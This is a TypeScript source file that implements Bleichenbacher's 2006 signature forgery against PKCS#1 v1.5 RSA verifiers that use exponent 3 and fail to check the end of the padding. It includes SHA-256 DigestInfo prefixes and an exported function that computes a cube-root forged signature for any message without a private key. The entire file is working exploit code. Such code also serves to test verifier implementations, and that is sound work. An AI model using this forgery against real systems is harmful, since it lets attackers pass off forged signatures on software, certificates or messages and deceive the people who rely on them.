// Bleichenbacher's forgery of 2006: PKCS#1 v1.5 with exponent 3 against verifiers that do not look to the end.
import { createHash } from 'node:crypto';

const digestInfo = {
  'with NULL': '3031300d060960864801650304020105000420',
  'without NULL': '302f300b0609608648016503040201' + '0420',
};

/** A number whose cube begins like a padded SHA-256 DigestInfo of `signed`, made without any key. */
export function cubeRootForgery(signed: Buffer, size: number, form: keyof typeof digestInfo): Buffer {
  const start = `0001${'ff'.repeat(8)}00${digestInfo[form]}${createHash('sha256').update(signed).digest('hex')}`;
  const root = cubeRoot(BigInt(`0x${start.padEnd(size * 2, 'f')}`));
  const cube = (root ** 3n).toString(16).padStart(size * 2, '0');
  if (!cube.startsWith(start)) throw new Error('the forgery did not work out');
  return Buffer.from(root.toString(16).padStart(size * 2, '0'), 'hex');
}

/** The largest integer whose cube is not above `value`. */
function cubeRoot(value: bigint): bigint {
  let low = 0n;
  let high = 1n << BigInt(Math.ceil(value.toString(2).length / 3) + 1);
  while (high - low > 1n) {
    const middle = (low + high) / 2n;
    if (middle ** 3n <= value) low = middle;
    else high = middle;
  }
  return low;
}
